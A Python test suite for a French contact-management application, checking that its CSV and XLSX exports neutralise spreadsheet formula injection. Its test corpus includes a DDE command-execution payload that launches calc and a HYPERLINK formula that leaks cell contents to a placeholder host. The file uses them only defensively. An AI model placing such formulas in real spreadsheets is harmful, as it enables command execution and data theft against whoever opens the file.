"""Formula injection (shared/reliability.md §5.2): no exported cell is ever a live formula.

A text starting with =, +, -, @, tab, CR (or NUL) gets a leading apostrophe in XLSX and
CSV alike; an XLSX text cell is always a string cell; a real negative number stays a
number; control characters XML cannot hold are dropped; the prefix is undone exactly for
pexdesk's own files."""

from __future__ import annotations

import io
from datetime import date

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from pexdesk.core.domain.models import Contact, Partner
from pexdesk.core.repositories import partners
from pexdesk.core.services import exchange
from pexdesk.core.services.exchange.cells import clean, restore_text, safe_text
from pexdesk.core.text import FORMULA_TRIGGERS, neutralise
from pexdesk.core.services.exchange.csv_export import csv_bytes, decimal_text
from pexdesk.core.services.exchange.tables import Column, Kind, Sheet, Table
from pexdesk.core.services.exchange.xlsx import write_xlsx

from tests.core.exchange_helpers import read_csv, read_xlsx

CORPUS = (
    "=1+1",
    "+33 6 12 34 56 78",
    "-12",
    "@SUM(A1:A9)",
    "\tTabulation",
    "\rRetour chariot",
    '=HYPERLINK("http://exemple.invalid/?d="&A1;"Cliquez ici")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!E2",
    "\x00=1+1",
    "'=déjà protégé",
)
SAFE = ("Dupont & Fils", "loyer < 500", "Mairie de Montbrézac", "12", "", "a=b", "x-y")


@pytest.mark.parametrize("text", CORPUS)
def test_dangerous_texts_are_prefixed(text):
    safe = safe_text(text)
    assert safe.startswith("'")
    assert restore_text(safe) == clean(text)


@pytest.mark.parametrize("text", SAFE)
def test_ordinary_texts_are_left_alone(text):
    assert safe_text(text) == text and restore_text(text) == text


def test_control_characters_are_dropped_but_tab_and_newlines_kept():
    assert clean("a\x00b\x01c\x08d\x0be\x0cf\x1fg") == "abcdefg"
    assert clean("ligne 1\nligne 2\r\nligne 3\rligne 4\tfin") == \
        "ligne 1\nligne 2\nligne 3\nligne 4\tfin"
    assert safe_text("\r=1+1") == "'\n=1+1" and safe_text("\nx") == "'\nx"


def test_neutralise_is_undone_exactly():
    for text in (*CORPUS, *SAFE, "'", "''", "'x", "=", "-"):
        assert restore_text(neutralise(text)) == text


@given(st.text())
def test_every_text_round_trips_and_never_starts_a_formula(text):
    safe = safe_text(text)
    assert not safe.startswith(FORMULA_TRIGGERS)
    assert restore_text(safe) == clean(text)


def _sheet(values: list[tuple[Kind, object]]) -> Table:
    columns = tuple(Column(f"C{i}", kind, lambda row, i=i: row[i]) for i, (kind, _) in
                    enumerate(values))
    return Table("test", "test", Sheet("Test", columns, [[value for _, value in values]]))


def _xlsx_row(table: Table):
    buffer = io.BytesIO()
    write_xlsx(table, buffer)
    worksheet = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]
    return list(worksheet.iter_rows(min_row=2, max_row=2))[0]


def test_a_negative_number_stays_a_number_and_a_negative_looking_name_text():
    table = _sheet([(Kind.TEXT, "-12"), (Kind.INTEGER, -12), (Kind.DECIMAL, -12.5),
                    (Kind.DATE, date(2025, 3, 15)), (Kind.SCORE, "NC"), (Kind.YES_NO, False)])
    cells = _xlsx_row(table)
    assert [(c.value, c.data_type) for c in cells[:3]] == [("-12", "s"), (-12, "n"),
                                                           (-12.5, "n")]
    assert cells[3].is_date and cells[4].value == "NC" and cells[5].value == "Non"
    line = csv_bytes(table.sheet).decode("utf-8-sig").splitlines()[1]
    assert line == "'-12;-12;-12,5;15/03/2025;NC;Non"


def test_decimal_text_is_shortest_and_french():
    assert [decimal_text(v) for v in (12.0, 12.5, -0.25, 0.1 + 0.2, 1e-7, 1e16)] == [
        "12", "12,5", "-0,25", "0,30000000000000004", "0,0000001", "10000000000000000"]


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=6))
def test_any_text_makes_a_valid_xlsx_without_formulas(texts):
    table = _sheet([(Kind.TEXT, text) for text in texts])
    for text, cell in zip(texts, _xlsx_row(table)):
        expected = clean(text)
        if expected == "":
            assert cell.value is None
        else:
            assert cell.data_type == "s" and cell.value == expected


@pytest.fixture
def injected(con):
    """A partner, its contacts and notes holding every payload of the corpus."""
    for index, payload in enumerate(CORPUS):
        # SQLite's length() stops at a NUL: a name cannot start with one, notes can.
        name = f"Partenaire {index}" if payload.startswith("\x00") else payload
        partners.save(con, Partner(name=name, category_code="AUTRE", territory=payload[:200],
                                   notes=payload),
                      [Contact(full_name=f"{name} n°{index}", role=payload[:200])],
                      tags=[f"t{index}"])
    return con


def test_no_live_formula_in_an_exported_xlsx(injected, tmp_path):
    for table in ("partners", "contacts"):
        out = tmp_path / f"{table}.xlsx"
        exchange.export(injected, table, out, record=False)
        _, _, rows = read_xlsx(out)
        text_cells = [cell for row in rows[1:] for cell in row if isinstance(cell.value, str)]
        assert len(text_cells) >= 2 * len(CORPUS)
        assert all(cell.data_type == "s" for cell in text_cells)
        # String cells are never run: the payloads are kept as typed, with no apostrophe.
        payloads = {cell.value for cell in text_cells if cell.value.startswith(FORMULA_TRIGGERS)}
        assert {"=1+1", "-12", "@SUM(A1:A9)"} <= payloads
        # The archive itself holds no formula element at all.
        import zipfile
        with zipfile.ZipFile(out) as archive:
            sheet = archive.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet and b"<f " not in sheet


def test_no_csv_cell_starts_a_formula(injected, tmp_path):
    out = tmp_path / "partners.csv"
    exchange.export(injected, "partners", out, record=False)
    rows = read_csv(out)
    names = {row[0] for row in rows[1:]}
    assert {"'=1+1", "'+33 6 12 34 56 78", "'-12", "'@SUM(A1:A9)", "'\tTabulation",
            "'\nRetour chariot", "''=déjà protégé"} <= names
    nul = next(row for row in rows if row[0] == "Partenaire 9")
    assert nul[3] == nul[10] == "'=1+1"  # the NUL was dropped, then the formula neutralised
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS), cell
    # Read back as pexdesk's own file, the names are those of the base.
    stored = {name for (name,) in injected.execute("SELECT name FROM partner")}
    assert {restore_text(name) for name in names} == {clean(name) for name in stored}


def test_an_xlsx_text_cell_looking_like_a_formula_is_a_string_without_apostrophe(tmp_path):
    """In XLSX a string cell is never evaluated: « =1+1 » is stored as typed (no « ' »
    that Excel would show), with data_type 's', not as a formula."""
    cell = _xlsx_row(_sheet([(Kind.TEXT, "=1+1")]))[0]
    assert (cell.value, cell.data_type) == ("=1+1", "s")
